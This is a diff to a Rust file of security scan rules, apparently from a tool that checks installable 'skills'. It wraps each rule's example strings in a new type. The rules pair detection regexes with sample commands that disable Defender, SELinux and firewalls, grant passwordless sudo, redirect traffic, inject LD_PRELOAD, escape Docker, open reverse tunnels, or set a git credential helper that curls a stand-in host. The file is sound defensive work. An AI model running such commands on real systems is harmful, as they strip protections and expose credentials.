@@ -1,6 +1,6 @@
 //! What a skill changes about the machine and its protection.
 
-use crate::rule::{Excuse, Pattern, RiskLevel, RuleScope, ScanRule, Test};
+use crate::rule::{Examples, Excuse, Pattern, RiskLevel, RuleScope, ScanRule, Test};
 
 pub(super) static RULES: &[ScanRule] = &[
     ScanRule {
@@ -16,8 +16,8 @@ pub(super) static RULES: &[ScanRule] = &[
                 r"(?:\bsc\s+create\b[^\n]{0,120}type=\s*kernel|\bkextload\b|\b(?:aukill|truesightkiller|edrsilencer|backstab)\b)",
             ],
             excuse: Excuse::Quoting,
-            hits: &["sc create x type= kernel binPath= C:\\x.sys"],
-            misses: &["sc query"],
+            hits: Examples::new(&["sc create x type= kernel binPath= C:\\x.sys"]),
+            misses: Examples::new(&["sc query"]),
             ..Pattern::DEFAULT
         }),
     },
@@ -45,8 +45,8 @@ pub(super) static RULES: &[ScanRule] = &[
                 r"(?:set-mppreference\b[^\n]{0,60}-(?:disable|exclusion)|add-mppreference\b[^\n]{0,40}exclusion|\bsetenforce\s+0|\bcsrutil\s+disable|\bspctl\b[^\n]{0,20}(?:master|global)-disable|\bufw\s+disable|\bxattr\s+-(?:c|cr|rc|d|dr|rd)\b[^\n]{0,30}(?:quarantine|\.app|/tmp|downloads)|netsh\s+advfirewall\s+set\s+\w+\s+state\s+off|amsiutils|\bstop\w*\b[^\n]{0,20}windefend)",
             ],
             excuse: Excuse::Quoting,
-            hits: &["Set-MpPreference -DisableRealtimeMonitoring $true", "sudo setenforce 0"],
-            misses: &["sestatus"],
+            hits: Examples::new(&["Set-MpPreference -DisableRealtimeMonitoring $true", "sudo setenforce 0"]),
+            misses: Examples::new(&["sestatus"]),
             ..Pattern::DEFAULT
         }),
     },
@@ -63,11 +63,11 @@ pub(super) static RULES: &[ScanRule] = &[
                 r"(?:nopasswd:\s*all[^\n]{0,60}(?:sudoers|tee)|(?:echo|tee)\b[^\n]{0,120}(?:nopasswd|/etc/sudoers)|\bchmod\s+(?:u\+s|\+s|[4267]7[57][57]|4[0-7]{3})\b|\bchmod\s+(?:-r\s+)?777\s+(?:/|~|\$home)(?:\s|$|\n|\*))",
             ],
             excuse: Excuse::Quoting,
-            hits: &[
+            hits: Examples::new(&[
                 "echo 'me ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/me",
                 "sudo chmod 4755 /usr/local/bin/x",
-            ],
-            misses: &["chmod 755 run.sh"],
+            ]),
+            misses: Examples::new(&["chmod 755 run.sh"]),
             ..Pattern::DEFAULT
         }),
     },
@@ -82,8 +82,8 @@ pub(super) static RULES: &[ScanRule] = &[
             literals: &["chmod"],
             all: &[r"\bchmod\s+(?:-r\s+)?(?:0?777|a\+rwx|o\+w)\s+[/~$]"],
             excuse: Excuse::Quoting,
-            hits: &["chmod -R 777 /srv/x"],
-            misses: &["chmod 755 x", "chmod +x x"],
+            hits: Examples::new(&["chmod -R 777 /srv/x"]),
+            misses: Examples::new(&["chmod 755 x", "chmod +x x"]),
             ..Pattern::DEFAULT
         }),
     },
@@ -99,8 +99,8 @@ pub(super) static RULES: &[ScanRule] = &[
             all: &[r"\bsudo\s+chown\s+(?:-r\s+)?root(?::\w+)?\s+[/~$]"],
             unless: &["/etc/|/usr/local"],
             excuse: Excuse::Quoting,
-            hits: &["sudo chown root:root /opt/shared"],
-            misses: &["chown me:me file"],
+            hits: Examples::new(&["sudo chown root:root /opt/shared"]),
+            misses: Examples::new(&["chown me:me file"]),
             ..Pattern::DEFAULT
         }),
     },
@@ -124,11 +124,11 @@ pub(super) static RULES: &[ScanRule] = &[
                 r"(?:>>?\s*/etc/(?:hosts|resolv\.conf)|tee\s+(?:-a\s+)?/etc/(?:hosts|resolv\.conf)|\biptables\b[^\n]{0,80}(?:redirect|dnat|-j\s+accept)|\bnetworksetup\b[^\n]{0,40}-set(?:web|secureweb|socks)\w*proxy\b|netsh\s+interface\s+portproxy\s+add)",
             ],
             excuse: Excuse::Quoting,
-            hits: &[
+            hits: Examples::new(&[
                 "iptables -t nat -A OUTPUT -p tcp --dport 443 -j DNAT --to-destination 1.2.3.4",
                 "echo \"1.2.3.4 a.test\" >> /etc/hosts",
-            ],
-            misses: &["iptables -L", "cat /etc/hosts"],
+            ]),
+            misses: Examples::new(&["iptables -L", "cat /etc/hosts"]),
             ..Pattern::DEFAULT
         }),
     },
@@ -157,8 +157,8 @@ pub(super) static RULES: &[ScanRule] = &[
                 r"asan|libasan|jemalloc|tcmalloc|libgomp|mimalloc|libnvidia|tracer|dd-trace|nsys|cupti|libc\+\+",
             ],
             excuse: Excuse::Quoting,
-            hits: &["export LD_PRELOAD=/tmp/x.so", "NODE_OPTIONS=--require /tmp/x.js"],
-            misses: &["unset LD_PRELOAD"],
+            hits: Examples::new(&["export LD_PRELOAD=/tmp/x.so", "NODE_OPTIONS=--require /tmp/x.js"]),
+            misses: Examples::new(&["unset LD_PRELOAD"]),
             ..Pattern::DEFAULT
         }),
     },
@@ -184,8 +184,8 @@ pub(super) static RULES: &[ScanRule] = &[
                 r"(?:\bdocker\b[^\n]{0,160}(?:--privileged|-v\s+/:/|--pid[= ]host|--cap-add[= ](?:all|sys_admin))|/var/run/docker\.sock|\bnsenter\s+-)",
             ],
             excuse: Excuse::Quoting,
-            hits: &["docker run --privileged -v /:/host x"],
-            misses: &["docker run -v ./data:/data x"],
+            hits: Examples::new(&["docker run --privileged -v /:/host x"]),
+            misses: Examples::new(&["docker run -v ./data:/data x"]),
             ..Pattern::DEFAULT
         }),
     },
@@ -212,8 +212,8 @@ pub(super) static RULES: &[ScanRule] = &[
                 r"(?:\bssh\s+(?:-\w+\s+)*-\w*r\s+\d+:|\bngrok\s+(?:tcp|http)\s|\bcloudflared\s+tunnel\s+--url|\bchisel\s+client|\bfrpc\s+-c|\bbore\s+local\s|\blt\s+--port)",
             ],
             excuse: Excuse::Quoting,
-            hits: &["ngrok tcp 22", "ssh -fN -R 2222:localhost:22 a.test"],
-            misses: &["ssh user@host"],
+            hits: Examples::new(&["ngrok tcp 22", "ssh -fN -R 2222:localhost:22 a.test"]),
+            misses: Examples::new(&["ssh user@host"]),
             ..Pattern::DEFAULT
         }),
     },
@@ -231,8 +231,8 @@ pub(super) static RULES: &[ScanRule] = &[
             ],
             unless: &[r"registry\.npmjs|pypi\.org|git@github|gh auth|npmmirror|tuna\.tsinghua|aliyun"],
             excuse: Excuse::Quoting,
-            hits: &["git config --global credential.helper '!curl https://a.test'"],
-            misses: &["git config user.name x"],
+            hits: Examples::new(&["git config --global credential.helper '!curl https://a.test'"]),
+            misses: Examples::new(&["git config user.name x"]),
             ..Pattern::DEFAULT
         }),
     },
@@ -249,8 +249,8 @@ pub(super) static RULES: &[ScanRule] = &[
                 r#"(?:(?:run|script|key)\s*:[^\n]{0,120}\$\{\{\s*github\.event\.(?:issue|comment|pull_request|review|discussion|head_commit)\.(?:title|body|head\.ref|message|user)|=[^\n]{0,20}["\']\$\{\{\s*github\.event\.(?:issue|comment|pull_request)\.(?:title|body)|pull_request_target\b[^~]{0,600}(?:ref:\s*\$\{\{\s*github\.(?:event\.pull_request\.head|head_ref)|key:[^\n]{0,60}github\.event|secrets\.)|permissions:\s*write-all|pull_request_target\b[^~]{0,600}uses:\s*[\w./-]+@(?:main|master)\b)"#,
             ],
             excuse: Excuse::Quoting,
-            hits: &["run: echo \"${{ github.event.issue.title }}\""],
-            misses: &["run: echo \"$TITLE\""],
+            hits: Examples::new(&["run: echo \"${{ github.event.issue.title }}\""]),
+            misses: Examples::new(&["run: echo \"$TITLE\""]),
             ..Pattern::DEFAULT
         }),
     },
